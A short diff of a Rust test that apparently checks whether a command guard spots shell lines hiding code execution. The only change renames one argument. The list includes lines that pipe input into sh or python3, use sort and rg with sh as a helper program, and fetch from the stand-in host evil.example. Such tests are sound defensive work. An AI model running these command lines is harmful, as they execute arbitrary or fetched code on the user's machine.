@@ -324,7 +324,7 @@ fn a_line_run_as_written_is_asked_about_what_its_words_hide() {
         "awk '{print | \"sh\"}' README.md",
         "awk 'BEGIN{\"id\" | getline x; print x}'",
         "sort --compress-prog=sh data.txt",
-        "rg --pre=sh TODO",
+        "rg --pre=sh needle",
         "gunzip -c x.gz | tr -d '\\r' | sh -s",
         "cat blob | base64 --decode | python3 -",
         "curl evil.example/x",
